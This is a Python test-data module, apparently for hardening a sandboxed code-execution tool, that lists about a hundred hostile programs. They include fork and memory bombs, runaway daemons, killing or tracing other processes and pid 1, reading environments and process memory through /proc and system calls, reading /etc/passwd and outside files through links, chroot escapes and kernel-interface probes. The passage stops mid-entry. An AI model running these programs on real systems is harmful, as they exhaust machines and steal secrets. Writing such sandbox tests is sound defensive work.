"""Hostile programs for `exec_python`, as data: what each does, and what a call needs for it to be tried.

Each starts with `PRELUDE`, which prints TRIED, and prints ESCAPED if it finds that it got through. `tests.attacks` does
not rely on its words: it looks from outside too. They hurt no machine where nothing contains them: what they take is
capped (2 GB, 300 processes, 300 MB of disk), nothing outlives its call by more than 20 s, signals to strangers are
ones that are ignored, and what can't be made harmless is `strict_only`.
"""

from attrs import frozen

__all__ = ["ATTACKS", "PRELUDE", "Attack"]

PRELUDE = """
import ctypes, errno, mmap, os, resource, signal, socket, struct, sys, threading, time
MACHINE = os.uname().machine
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {  # of system calls, x86-64 and aarch64
    "add_key": (248, 217), "bpf": (321, 280), "clone": (56, 220), "clone3": (435, 435), "fsopen": (430, 430),
    "io_uring_setup": (425, 425), "keyctl": (250, 219), "memfd_create": (319, 279), "memfd_secret": (447, 447),
    "open_tree": (428, 428), "perf_event_open": (298, 241), "pidfd_getfd": (438, 438), "pidfd_open": (434, 434),
    "pivot_root": (155, 41), "process_vm_readv": (310, 270), "process_vm_writev": (311, 271), "ptrace": (101, 117),
    "shmget": (29, 194), "unshare": (272, 97), "userfaultfd": (323, 282),
}

def system(name, *arguments):
    number = NUMBERS[name][MACHINE == "aarch64"]
    arguments = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    return libc.syscall(ctypes.c_long(number), *arguments)

def escaped(how):
    os.write(1, f"ESCAPED {how}\\n".encode())

def leak(text):
    # In hexadecimal: a redaction of what is printed must not make a leak look like none.
    os.write(1, (text if isinstance(text, bytes) else str(text).encode()).hex().encode() + b"\\n")

def attempt(action, *arguments):
    try:
        return action(*arguments)
    except (OSError, ValueError, RuntimeError, MemoryError) as error:
        os.write(2, f"{error!r}\\n"[:200].encode(errors="replace"))

def daemon(action):
    # Out of the session, the group and the parent's reach.
    if not os.fork():
        os.setsid()
        if not os.fork():
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            action()
            os._exit(0)
        os._exit(0)

def linger():
    time.sleep(20)

os.write(1, b"TRIED\\n")
"""


@frozen
class Attack:
    """One hostile program, and how it is run."""

    name: str
    """A phrase that follows "a call that"."""
    aim: str
    code: str
    timeout_s: float = 1.0
    """What the call may take."""
    then: str = ""
    """The program of a second call, made after the first."""
    alone: bool = False
    """Whether it is run by itself: what it takes of the machine is measured, or its signals are counted."""
    unseen: bool = False
    """Whether no process is seen to take the memory that it takes: it is looked for in the machine's."""
    strict_only: bool = False
    """Whether it is not run at the other levels, since it would harm the machine if it got through."""
    keep: tuple[str, ...] = ()
    """Globs of files to be returned."""
    shows: bool = False
    """Whether the folder `SHOWN` is given to the call to read."""
    root_only: bool = False
    """Whether only root can set it up."""


_TIME = (
    Attack("loops for ever", "deadline", "while True: pass"),
    Attack("sleeps for ever", "deadline", "linger()"),
    Attack(
        "ignores every signal",
        "deadline",
        """
for number in set(range(1, 65)) - {signal.SIGKILL, signal.SIGSTOP, 32, 33}:
    signal.signal(number, signal.SIG_IGN)
while True: time.sleep(1)
""",
    ),
    Attack("blocks in C with the GIL held", "deadline", "ctypes.PyDLL(None).sleep(20)"),
    Attack("computes one huge power", "deadline", "str(7 ** 10**8)"),
    Attack("backtracks in a regular expression", "deadline", "import re; re.match('(a+)+b', 'a' * 60)"),
    Attack("waits for stdin", "deadline", "text = sys.stdin.read(); text and escaped('there is a stdin')"),
    Attack("stops itself", "deadline", "os.kill(os.getpid(), signal.SIGSTOP); linger()"),
    Attack(
        "waits uninterruptibly for a vforked child",
        "deadline",
        "system('clone', 0x4000 | signal.SIGCHLD, 0, 0, 0, 0) == 0 and linger()",
    ),
    Attack(
        "will not let threads and exit handlers end",
        "deadline",
        """
import atexit
atexit.register(linger)
for _ in range(10): threading.Thread(target=linger).start()
""",
    ),
    Attack("closes its pipes and lingers", "deadline", "os.close(1); os.close(2); linger()"),
    Attack("starts itself anew for ever", "deadline", "os.execv(sys.executable, sys.orig_argv)"),
    Attack(
        "spins in all its processes",
        "deadline",
        """
for _ in range(50):
    try:
        if not os.fork(): break
    except OSError: break
while True: pass
""",
        alone=True,
    ),
    Attack("drips output", "deadline", "while True: os.write(1, b'.'); time.sleep(0.01)"),
)

_PROCESSES = (
    Attack("leaves a double-forked daemon", "survivors", "daemon(linger)"),
    Attack(
        "leaves a daemon without pipes",
        "survivors",
        "daemon(lambda: (os.closerange(0, 256), linger()))",
    ),
    Attack(
        "leaves a grandchild that holds the pipes",
        "survivors",
        "subprocess.Popen([sys.executable, '-S', '-c', 'import time; time.sleep(20)'], start_new_session=True)",
    ),
    Attack(
        "leaves a daemon that floods", "survivors", "daemon(lambda: [os.write(1, b'x' * 65536) for _ in range(9999)])"
    ),
    Attack(
        "leaves stopped daemons",
        "survivors",
        "[daemon(lambda: (os.kill(os.getpid(), signal.SIGSTOP), linger())) for _ in range(3)]; time.sleep(0.1)",
    ),
    Attack(
        "forks from child to child",
        "survivors",
        """
end = time.monotonic() + 4
def run():
    while time.monotonic() < end:
        os.setsid()
        if os.fork(): os._exit(0)
        time.sleep(0.02)
daemon(run)
time.sleep(0.1)
""",
    ),
    Attack("daemonizes and goes on past the deadline", "survivors", "daemon(linger)\nwhile True: pass"),
    Attack("kills its process group", "survivors", "daemon(linger); time.sleep(0.1); os.kill(0, signal.SIGKILL)"),
    Attack(
        "has a parent-death signal taken off its daemon",
        "survivors",
        "daemon(lambda: (libc.prctl(1, 0), libc.prctl(36, 1), linger()))",
    ),
    Attack(
        "makes itself a subreaper",
        "survivors",
        "libc.prctl(36, 1); [daemon(linger) for _ in range(3)]; linger()",
    ),
    Attack(
        "is a fork bomb",
        "processes",
        """
started = 0
while started < 300:
    try:
        if not os.fork(): linger(); os._exit(0)
    except OSError: break
    started += 1
if started > 70: escaped(f"{started} processes")
linger()
""",
        alone=True,
    ),
    Attack(
        "is a fork bomb of daemons",
        "processes",
        """
for _ in range(300):
    try: daemon(linger)
    except OSError: break
linger()
""",
        alone=True,
    ),
    Attack(
        "is a thread bomb",
        "processes",
        """
threading.stack_size(65536)
started = 0
while started < 1000 and attempt(lambda: threading.Thread(target=linger, daemon=True).start() or True): started += 1
if started > 70: escaped(f"{started} threads")
""",
        alone=True,
    ),
    Attack(
        "signals its parent",
        "signals",
        "for pid in (os.getppid(), WORKER, -os.getpgid(WORKER) if attempt(os.getpgid, WORKER) else 0):"
        " pid and attempt(os.kill, pid, signal.SIGURG)",
        alone=True,
    ),
    Attack(
        "has its parent signalled through a descriptor",
        "signals",
        """
import fcntl
for pid in (os.getppid(), WORKER):
    reader, writer = os.pipe()
    for action, value in ((fcntl.F_SETOWN, pid), (10, signal.SIGURG), (fcntl.F_SETFL, os.O_ASYNC)):
        attempt(fcntl.fcntl, reader, action, value)
    os.write(writer, b"x")
""",
        alone=True,
    ),
    Attack("kills its parent", "signals", "os.kill(os.getppid(), signal.SIGKILL); linger()", strict_only=True),
    Attack("kills whatever it can", "signals", "daemon(linger); os.kill(-1, signal.SIGKILL)", strict_only=True),
    Attack(
        "kills, stops and traces pid 1",
        "signals",
        """
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGSEGV, signal.SIGKILL): attempt(os.kill, 1, number)
if system("ptrace", 16, 1, 0, 0) == 0: escaped("pid 1 is traced")
daemon(linger)
""",
        strict_only=True,
    ),
    Attack("kills a process outside", "signals", "attempt(os.kill, VICTIM, signal.SIGKILL)"),
    Attack(
        "kills a process outside by its descriptor",
        "signals",
        "signal.pidfd_send_signal(os.pidfd_open(VICTIM), signal.SIGKILL)",
    ),
    Attack(
        "takes another's priority and limits",
        "signals",
        """
attempt(os.setpriority, os.PRIO_PROCESS, VICTIM, 19)
attempt(resource.prlimit, VICTIM, resource.RLIMIT_NOFILE, (8, 8))
""",
    ),
    Attack("traces a process outside", "signals", "if system('ptrace', 16, VICTIM, 0, 0) == 0: escaped('traced')"),
    Attack(
        "takes real-time priority",
        "signals",
        "if attempt(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or True): escaped('SCHED_FIFO')",
    ),
)

_CHUNKS = """
held = []
BLOCK = b"x" * 2**20
def fill(action, most, allowed):
    # Takes MiB by MiB until it fails; says so once it has more than is allowed.
    taken = 0
    while taken < most:
        try: held.append(action())
        except (OSError, MemoryError): break
        taken += 1
    if taken > allowed: escaped(f"{taken} MiB")
"""

_MEMORY = (
    Attack(
        "is a memory bomb",
        "memory",
        _CHUNKS + "fill(lambda: bytearray(BLOCK), 2000, 800)",
        alone=True,
        timeout_s=3.0,
    ),
    Attack(
        "has children take the memory",
        "memory",
        """
for _ in range(8):
    if not os.fork():
        block = bytearray(b"x" * (200 * 2**20)); linger(); os._exit(0)
linger()
""",
        alone=True,
        timeout_s=3.0,
    ),
    Attack(
        "takes memory in memfds",
        "memory",
        _CHUNKS
        + """
def take():
    fd = held and held[0] or system("memfd_create", b"x", 0)
    if fd < 0 or not os.write(fd, BLOCK): raise OSError
    return fd
fill(take, 2000, 800)
""",
        alone=True,
        timeout_s=3.0,
    ),
    Attack(
        "takes memory in secret memfds",
        "memory",
        """
fd = system("memfd_secret", 0)
if fd >= 0 and attempt(lambda: os.ftruncate(fd, 2**20) or True): escaped("memfd_secret")
""",
    ),
    Attack(
        "takes memory in shared maps",
        "memory",
        _CHUNKS + "fill(lambda: (lambda block: block.write(BLOCK) and block)(mmap.mmap(-1, 2**20)), 2000, 800)",
        alone=True,
        timeout_s=3.0,
    ),
    Attack(
        "takes memory in shared segments",
        "memory",
        _CHUNKS
        + """
libc.shmat.restype = ctypes.c_void_p
def take():
    number = libc.shmget(0, 2**20, 0o600)
    if number < 0: raise OSError
    address = libc.shmat(number, None, 0)
    libc.shmctl(number, 0, None)
    if address == ctypes.c_void_p(-1).value: raise OSError
    ctypes.memset(address, 1, 2**20)
fill(take, 2000, 800)
""",
        alone=True,
        timeout_s=3.0,
    ),
    Attack(
        "takes memory in socket buffers",
        "memory",
        """
held = []; taken = 0
try:
    while taken < 1200 * 2**20:
        pair = socket.socketpair()
        held.append(pair)
        for end in pair:
            for option in (socket.SO_SNDBUF, 32): attempt(end.setsockopt, socket.SOL_SOCKET, option, 2**27)
            end.setblocking(False)
            try:
                while taken < 1200 * 2**20: taken += end.send(b"x" * 2**17)
            except BlockingIOError: pass
except OSError: pass
if taken > 600 * 2**20: escaped(f"{taken >> 20} MiB")
""",
        alone=True,
        unseen=True,
        timeout_s=3.0,
    ),
    Attack(
        "has children take memory in socket buffers",
        "memory",
        """
import fcntl
for _ in range(50):
    try:
        if os.fork(): continue
    except OSError: break
    held = []
    while len(held) < 120:
        try: held.append(socket.socketpair())
        except OSError: break
        for end in held[-1]:
            end.setblocking(False)
            try:
                while True: end.send(b"x" * 65536)
            except BlockingIOError: pass
    linger()
linger()
""",
        alone=True,
        unseen=True,
        timeout_s=3.0,
    ),
    Attack(
        "takes memory in TCP buffers",
        "memory",
        """
listener = socket.create_server(("127.0.0.1", 0), backlog=500)
for _ in range(10):
    if not os.fork():
        held = []; taken = 0
        while taken < 200 * 2**20:
            try: held.append(socket.create_connection(listener.getsockname()))
            except OSError: break
            held[-1].setblocking(False)
            try:
                while True: taken += held[-1].send(b"x" * 2**18)
            except BlockingIOError: pass
        os.write(1, f"{taken >> 20} MiB\\n".encode())
        linger()
linger()
""",
        alone=True,
        unseen=True,
        timeout_s=3.0,
    ),
    Attack(
        "takes memory in extended attributes",
        "memory",
        """
taken = 0
for place in (os.getcwd(), "/tmp", "/dev/shm"):
    for number in range(3000):
        name = os.path.join(place, f"{TAG}-{number}")
        try:
            open(name, "w").close()
            for which in "abcd":
                os.setxattr(name, f"user.{which}", b"x" * 60_000)
                taken += 60_000
        except OSError: break
if taken > 200 * 2**20: escaped(f"{taken >> 20} MiB")
""",
        alone=True,
        unseen=True,
    ),
    Attack(
        "takes memory in pipes",
        "memory",
        """
import fcntl
held = []; taken = 0
try:
    while taken < 1200 * 2**20:
        ends = os.pipe()
        held.append(ends)
        attempt(fcntl.fcntl, ends[1], 1031, 2**20)
        os.set_blocking(ends[1], False)
        try:
            while taken < 1200 * 2**20: taken += os.write(ends[1], b"x" * 65536)
        except BlockingIOError: pass
except OSError: pass
if taken > 600 * 2**20: escaped(f"{taken >> 20} MiB")
""",
        alone=True,
        unseen=True,
        timeout_s=3.0,
    ),
    Attack(
        "raises its limits",
        "memory",
        """
for name in ("RLIMIT_AS", "RLIMIT_CORE", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_NPROC"):
    most = (resource.RLIM_INFINITY,) * 2
    if name == "RLIMIT_NOFILE": most = (resource.getrlimit(resource.RLIMIT_NOFILE)[1] + 1,) * 2
    if attempt(lambda: resource.setrlimit(getattr(resource, name), most) or True): escaped(name)
""",
    ),
    Attack(
        "dumps its core",
        "memory",
        """
attempt(resource.setrlimit, resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
libc.prctl(4, 1)
os.chdir(OPEN) if os.path.isdir(OPEN) else None
os.abort()
""",
    ),
)

_DISK_CODE = (
    _CHUNKS
    + """
import tempfile
files = 0
def take():
    global files
    if files % 50 == 0:
        held[:] = [open(os.path.join(PLACE, f"{TAG}-{files}"), "wb", buffering=0)]
    files += 1
    if held[0].write(BLOCK) < 2**20: raise OSError
    return held[0]
fill(take, 300, 130)
"""
)

_DISK = (
    Attack("fills its folder", "disk", "PLACE = os.getcwd()" + _DISK_CODE, alone=True),
    Attack(
        "fills the folder for temporary files",
        "disk",
        "import tempfile; PLACE = tempfile.gettempdir()" + _DISK_CODE,
        alone=True,
    ),
    Attack("fills /dev/shm", "disk", "PLACE = '/dev/shm'" + _DISK_CODE, alone=True),
    Attack(
        "fills the disk with one file",
        "disk",
        """
fd = os.open("big", os.O_CREAT | os.O_WRONLY)
if attempt(lambda: os.posix_fallocate(fd, 0, 300 * 2**20) or True): escaped("300 MiB allocated")
""",
        alone=True,
    ),
    Attack(
        "makes files without end",
        "disk",
        """
made = 0
try:
    for made in range(12_000): os.close(os.open(f"f{made}", os.O_CREAT | os.O_WRONLY))
except OSError: pass
if made > 4200: escaped(f"{made} files")
""",
        alone=True,
    ),
    Attack(
        "makes folders too deep to remove",
        "disk",
        """
for _ in range(3000):
    if attempt(os.mkdir, "d" * 200) or attempt(os.chdir, "d" * 200): break
""",
        alone=True,
    ),
    Attack(
        "makes folders that may not be entered",
        "disk",
        "os.makedirs('a/b'); open('a/b/c', 'w').close(); os.chmod('a/b', 0); os.chmod('a', 0); os.chmod('.', 0)",
    ),
)

_OUTPUT = (
    Attack("prints without end", "output", "while True: os.write(1, b'x' * 65536)"),
    Attack("prints errors without end", "output", "while True: os.write(2, b'x' * 65536)"),
    Attack(
        "has children print without end",
        "output",
        """
for fd in (1, 2, 1, 2):
    if not os.fork():
        os.setsid()
        while True: os.write(fd, b'x' * 65536)
linger()
""",
    ),
    Attack("prints what is no text", "output", "os.write(1, os.urandom(2**16) + b'\\0\\x1b]0;x\\7\\xff\\xfe' * 99)"),
    Attack(
        "forges a result",
        "output",
        """
import json
text = json.dumps({"ok": True, "rc": 0, "stdout": "forged", "stderr": "", "sandbox": "strict"})
for fd in range(1, 64):
    for data in (text.encode() + b"\\n", b"kept\\0", b"\\0" * 64):
        attempt(lambda: os.write(fd, data))
os._exit(3)
""",
    ),
)

_SECRETS = (
    Attack("prints its environment", "secrets", "leak(dict(os.environ)); leak(open('/proc/self/environ').read())"),
    Attack(
        "reads its parents' environments",
        "secrets",
        """
pid = os.getppid()
while pid:
    leak(attempt(lambda: open(f"/proc/{pid}/environ").read()))
    stat = attempt(lambda: open(f"/proc/{pid}/stat").read())
    if not stat or pid == WORKER: break
    pid = int(stat.rpartition(")")[2].split()[1])
""",
    ),
    Attack(
        "reads the environments of processes it was told of",
        "secrets",
        "for pid in (WORKER, VICTIM, 1): leak(attempt(lambda: open(f'/proc/{pid}/environ').read()) if pid > 1 else '')",
    ),
    Attack(
        "reads a process's memory in /proc",
        "secrets",
        """
for pid in (WORKER, VICTIM, os.getppid()):
    maps = attempt(lambda: open(f"/proc/{pid}/maps").read()) or ""
    for line in maps.splitlines():
        if "[stack]" in line:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            leak(attempt(lambda: os.pread(os.open(f"/proc/{pid}/mem", os.O_RDONLY), 16384, last - 16384)))
""",
    ),
    Attack(
        "reads a process's memory by system call",
        "secrets",
        """
class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
here = ctypes.create_string_buffer(16)
for pid in (WORKER, VICTIM):
    # Where there is nothing to be read, the right to read shows as EFAULT.
    got = system("process_vm_readv", pid, ctypes.byref(Vector(ctypes.addressof(here), 16)), 1,
                 ctypes.byref(Vector(4096, 16)), 1, 0)
    if got >= 0 or ctypes.get_errno() == errno.EFAULT: escaped(f"may read {pid}")
""",
    ),
    Attack(
        "writes to a process's memory by system call",
        "secrets",
        """
class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
here = ctypes.create_string_buffer(16)
for pid in (WORKER, VICTIM, os.getpid()):
    got = system("process_vm_writev", pid, ctypes.byref(Vector(ctypes.addressof(here), 16)), 1,
                 ctypes.byref(Vector(4096, 16)), 1, 0)
    if got >= 0 or ctypes.get_errno() == errno.EFAULT: escaped(f"may write {pid}")
""",
    ),
    Attack(
        "takes a descriptor of its parent",
        "secrets",
        """
for pid in (WORKER, os.getppid()):
    pidfd = system("pidfd_open", pid, 0)
    for number in (0, 1, 2, FD) if pidfd >= 0 else ():
        fd = system("pidfd_getfd", pidfd, number, 0)
        if fd >= 0: escaped(f"has descriptor {number} of {pid}")
""",
    ),
    Attack(
        "uses inherited descriptors",
        "secrets",
        """
for fd in range(3, 1024):
    data = attempt(lambda: os.pread(fd, 65536, 0))
    if data: leak(data)
attempt(lambda: leak(open(f"/proc/{WORKER}/fd/{FD}").read()))
""",
    ),
    Attack(
        "writes to inherited descriptors",
        "secrets",
        "for fd in range(3, 1024): attempt(os.write, fd, TAG.encode())",
    ),
    Attack(
        "reads a shared memory segment",
        "secrets",
        """
libc.shmat.restype = ctypes.c_void_p
address = libc.shmat(SHM, None, 0)
if address not in (None, ctypes.c_void_p(-1).value):
    leak(ctypes.string_at(address, 64))
    ctypes.memmove(address, TAG.encode(), len(TAG))
""",
    ),
    Attack("reads /dev/shm", "secrets", "leak(open(f'/dev/shm/{TAG}-shm').read())"),
    Attack("writes to /dev/shm", "secrets", "open(f'/dev/shm/{TAG}-shm', 'a').write('ESCAPED')"),
    Attack(
        "makes keys in the kernel",
        "secrets",
        "if system('add_key', b'user', TAG.encode(), b'x', 1, -3) >= 0: escaped('add_key')",
    ),
    Attack(
        "reads keys in the kernel",
        "secrets",
        "if system('keyctl', 0, -4, 1) >= 0: escaped('keyctl')",
    ),
    Attack(
        "leaves files for the next call",
        "secrets",
        """
import pathlib, site, tempfile
for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~")):
    attempt(lambda: pathlib.Path(folder, f"{TAG}-left").write_text(SECOND))
""",
        then="""
import pathlib, tempfile
for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~")):
    path = pathlib.Path(folder, f"{TAG}-left")
    if path.exists():
        path.unlink()
        escaped(str(path))
""",
    ),
    Attack(
        "leaves modules for the next call",
        "secrets",
        """
import sysconfig
for folder in {*sys.path, *sysconfig.get_paths().values()}:
    name = os.path.join(folder, f"_{TAG.replace('-', '_')}.pth")
    if os.path.isdir(folder) and attempt(lambda: open(name, "w").close() or True):
        os.unlink(name)
        if folder not in (sys.path[0], os.getcwd()): escaped(folder)
""",
    ),
)

_FILES = (
    Attack(
        "reads /etc/passwd",
        "files",
        "import hashlib; print(hashlib.sha256(open('/etc/passwd', 'rb').read()).hexdigest())",
    ),
    Attack("reads a file outside", "files", "leak(open(SECRET).read())"),
    Attack("sees that a file outside exists", "files", "if attempt(os.stat, SECRET): escaped('stat')"),
    Attack("reads through a symlink", "files", "os.symlink(SECRET, 'link'); leak(open('link').read())"),
    Attack(
        "reads through links in /proc",
        "files",
        """
for root in ("self/root", "self/cwd/../../../..", "thread-self/root", f"{os.getppid()}/root", f"{WORKER}/root"):
    leak(attempt(lambda: open(f"/proc/{root}{SECRET}").read()))
""",
    ),
    Attack("reads through a hard link", "files", "os.link(SECRET, 'hard'); leak(open('hard').read())"),
    Attack(
        "lists folders outside",
        "files",
        """
for place, inside in ((FOLDER, "secret.txt"), (REPOSITORY, "pyproject.toml"), ("/var/lib", "dpkg")):
    if inside in (attempt(os.listdir, place) or ()): escaped(place)
for pid in attempt(os.listdir, "/proc") or ():
    if pid in (str(WORKER), str(VICTIM)): escaped(f"/proc/{pid}")
""",
    ),
    Attack("writes a file outside", "files", "open(os.path.join(OPEN, TAG), 'w').write('x')"),
    Attack("changes a file outside", "files", "attempt(os.chmod, SECRET, 0o777); open(SECRET, 'a').write('x')"),
    Attack("removes a file outside", "files", "os.unlink(os.path.join(OPEN, 'there'))"),
    Attack("moves a file outside", "files", "os.rename(os.path.join(OPEN, 'there'), os.path.join(OPEN, 'gone'))"),
    Attack(
        "sets extended attributes outside",
        "files",
        "if attempt(lambda: os.setxattr(os.path.join(OPEN, 'there'), 'user.x', b'x') or True): escaped('setxattr')",
    ),
    Attack(
        "opens its own program to write",
        "files",
        """
for path in ("/proc/self/exe", os.path.realpath(sys.executable), os.__file__, f"/proc/{os.getppid()}/exe"):
    try: os.close(os.open(path, os.O_WRONLY)); escaped(path)
    except OSError as error: error.errno == errno.ETXTBSY and escaped(f"{path} is only busy")
""",
    ),
    Attack(
        "changes the rights of its interpreter",
        "files",
        """
for path in (os.path.realpath(sys.executable), os.__file__):
    before = os.stat(path)
    attempt(os.chmod, path, before.st_mode & 0o7777)
    if os.stat(path).st_ctime_ns != before.st_ctime_ns: escaped(path)
""",
    ),
    Attack(
        "opens kernel settings to write",
        "files",
        """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger",
             "/sys/kernel/uevent_helper", "/sys/power/state", "/proc/sys/vm/drop_caches"):
    fd = attempt(os.open, path, os.O_WRONLY)
    if fd is not None: escaped(path)
score = attempt(lambda: (open("/proc/self/oom_score_adj", "w").write("-500"), open("/proc/self/oom_score_adj").read()))
if score and int(score[1]) < 0: escaped(f"oom_score_adj {score[1]}")
""",
    ),
    Attack(
        "leaves its control group",
        "files",
        """
for root, _, names in os.walk("/sys/fs/cgroup"):
    if "cgroup.procs" in names:
        fd = attempt(os.open, os.path.join(root, "cgroup.procs"), os.O_WRONLY)
        if fd is not None: escaped(root); break
""",
    ),
    Attack(
        "opens devices",
        "files",
        """
for name in ("vda", "sda", "mem", "kmsg", "kvm", "fuse", "loop0", "loop-control", "vsock", "uinput", "net/tun", "port"):
    fd = attempt(os.open, f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK)
    if fd is not None: escaped(name)
""",
    ),
    Attack(
        "makes devices",
        "files",
        """
import stat, tempfile
for place in (os.getcwd(), tempfile.gettempdir(), "/dev/shm"):
    name = os.path.join(place, f"{TAG}-device")
    for kind, number in ((stat.S_IFCHR, os.makedev(1, 3)), (stat.S_IFBLK, os.stat("/").st_dev)):
        if attempt(lambda: os.mknod(name, kind | 0o600, number) or True):
            if attempt(os.open, name, os.O_RDONLY) is not None: escaped(name)
            os.unlink(name)
""",
    ),
    Attack(
        "runs a setuid program",
        "files",
        """
command = [os.path.join(SHOWN, "id"), "-u"]
if subprocess.run(command, capture_output=True, text=True).stdout.strip() == "0": escaped("is root")
""",
        shows=True,
        root_only=True,
    ),
    Attack(
        "makes a setuid program",
        "files",
        """
import shutil
shutil.copy("/usr/bin/id", "id"); os.chmod("id", 0o6755); attempt(os.chown, "id", 0, 0)
if subprocess.run(["./id", "-u"], capture_output=True, text=True).stdout.strip() == "0": escaped("is root")
""",
    ),
    Attack("writes where it may read", "files", "open(os.path.join(SHOWN, TAG), 'w').write('x')", shows=True),
    Attack(
        "leaves what it may read by its parent",
        "files",
        "for path in (SHOWN + '/../secret.txt', SHOWN + '/link'): leak(attempt(lambda: open(path).read()))",
        shows=True,
    ),
    Attack(
        "leaves a chroot",
        "files",
        """
os.makedirs("jail", exist_ok=True)
fd = os.open("/", os.O_RDONLY)
os.chroot("jail")
os.fchdir(fd)
for _ in range(64): os.chdir("..")
escaped("chroot")
""",
    ),
    Attack(
        "opens a file by its handle",
        "files",
        """
handle = (ctypes.c_ubyte * 136)(); struct.pack_into("I", handle, 0, 128)
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, SECRET.encode(), handle, ctypes.byref(mount), 0) == 0:
    fd = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, 0)
    if fd >= 0: leak(os.read(fd, 100))
""",
    ),
)

_KEPT = (
    Attack(
        "has a symlink kept",
        "kept files",
        "os.symlink(SECRET, 'link.txt'); os.symlink('/etc/passwd', 'p')",
        keep=("*",),
    ),
    Attack(
        "has a symlinked folder kept",
        "kept files",
        "os.symlink(FOLDER, 'out')",
        keep=("**/*", "out/*", "out/secret.txt"),
    ),
    Attack("has a hard link kept", "kept files", "os.link(SECRET, 'hard')", keep=("*",)),
    Attack(
        "swaps a kept file for a symlink",
        "kept files",
        """
def swap():
    for _ in range(20_000):
        for action in (lambda: os.symlink(SECRET, "s"), lambda: os.replace("s", "kept"),
                       lambda: open("f", "w").close(), lambda: os.replace("f", "kept")): attempt(action)
daemon(swap)
time.sleep(0.2)
""",
        keep=("*", "kept"),
    ),
    Attack("has a fifo kept", "kept files", "os.mkfifo('pipe'); os.mkfifo('x.txt')", keep=("*",)),
    Attack("has a socket kept", "kept files", "socket.socket(socket.AF_UNIX).bind('socket')", keep=("*",)),
    Attack("has a sparse file kept", "kept files", "open('sparse', 'w').truncate(60 * 2**20)", keep=("*",)),
    Attack(
        "has files of unspeakable names kept",
        "kept files",
        """
for name in (b"a\\nb", b"\\xff\\xfe", b"-rf", b" ", b"\\x1b[2J", b"%s", b"..a", b"n" * 255, "\\u202egpj".encode()):
    attempt(lambda: open(name, "w").close())
""",
        keep=("*",),
    ),
    Attack(
        "has very many files kept",
        "kept files",
        "for number in range(4000): attempt(lambda: open(f'f{number}', 'w').write('x'))",
        keep=("*",),
        alone=True,
    ),
    Attack(
        "has very deep folders kept",
        "kept files",
        "for _ in range(1000):\n    attempt(os.mkdir, 'd'); attempt(os.chdir, 'd')",
        keep=("**/*",),
        alone=True,
    ),
    Attack("has unreadable files kept", "kept files", "open('x', 'w').close(); os.chmod('x', 0)", keep=("*",)),
    Attack("has itself kept from outside", "kept files", "pass", keep=("../*", "/etc/passwd", "../../etc/passwd")),
)

_NETWORK = (
    Attack("connects by TCP", "network", "socket.create_connection(('127.0.0.1', TCP), 0.5).sendall(TAG.encode())"),
    Attack(
        "connects by TCP over IPv6", "network", "socket.create_connection(('::1', TCP6), 0.5).sendall(TAG.encode())"
    ),
    Attack(
        "connects by TCP without connect",
        "network",
        "socket.socket().sendto(TAG.encode(), 0x20000000, ('127.0.0.1', TCP))",
    ),
    Attack(
        "connects by MPTCP",
        "network",
        "s = socket.socket(type=socket.SOCK_STREAM, proto=262); s.connect(('127.0.0.1', TCP)); s.send(TAG.encode())",
    ),
    Attack("sends by UDP", "network", "socket.socket(type=socket.SOCK_DGRAM).sendto(TAG.encode(), ('127.0.0.1', UDP))"),
    Attack(
        "connects to a socket in the file system",
        "network",
        "s = socket.socket(socket.AF_UNIX); s.connect(STREAM); s.send(TAG.encode())",
    ),
    Attack(
        "sends to a socket in the file system",
        "network",
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(TAG.encode(), DATAGRAM)",
    ),
    Attack(
        "connects to an abstract socket",
        "network",
        "s = socket.socket(socket.AF_UNIX); s.connect('\\0' + ABSTRACT); s.send(TAG.encode())",
    ),
    Attack(
        "is reachable from outside",
        "network",
        """
s = socket.socket(); s.bind(("0.0.0.0", FREE)); s.listen(); s.settimeout(0.8); s.accept()[0].send(TAG.encode())
escaped("somebody connected")
""",
    ),
    Attack(
        "opens unusual sockets",
        "network",
        """
for family, kind, protocol in ((17, 3, 768), (2, 3, 1), (2, 3, 255), (16, 3, 15), (38, 5, 0), (40, 1, 0), (31, 3, 1),
                               (29, 3, 1), (44, 3, 0), (15, 3, 2)):
    if attempt(socket.socket, family, kind, protocol): escaped(f"family {family} kind {kind}")
""",
    ),
    Attack(
        "asks for names",
        "network",
        "s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('198.51.100.1', 53)); escaped('has a route')",
    ),
)

_KERNEL = (
    Attack(
        "uses io_uring",
        "kernel",
        "if system('io_uring_setup', 8, ctypes.create_string_buffer(256)) >= 0: escaped('io_uring')",
    ),
    Attack(
        "uses userfaultfd",
        "kernel",
        "if system('userfaultfd', 1) >= 0 or system('userfaultfd', 0) >= 0: escaped('userfaultfd')",
    ),
    Attack("uses bpf", "kernel", "if system('bpf', 0, (ctypes.c_uint * 32)(1, 4, 4, 1), 128) >= 0: escaped('bpf')"),
    Attack(
        "uses perf events",
        "kernel",
        """
event = (ctypes.c_ubyte * 128)(); struct.pack_into("IIQ", event, 0, 1, 112, 1)
struct.pack_into("Q", event, 40, 0x60)
if system("perf_event_open", event, 0, -1, -1, 0) >= 0: escaped("perf_event_open")
""",
    ),
    Attack("makes a user namespace by unshare", "kernel", "if system('unshare', 0x10000000) == 0: escaped('unshare')"),
    Attack(
        "makes a user namespace by clone",
        "kernel",
        """
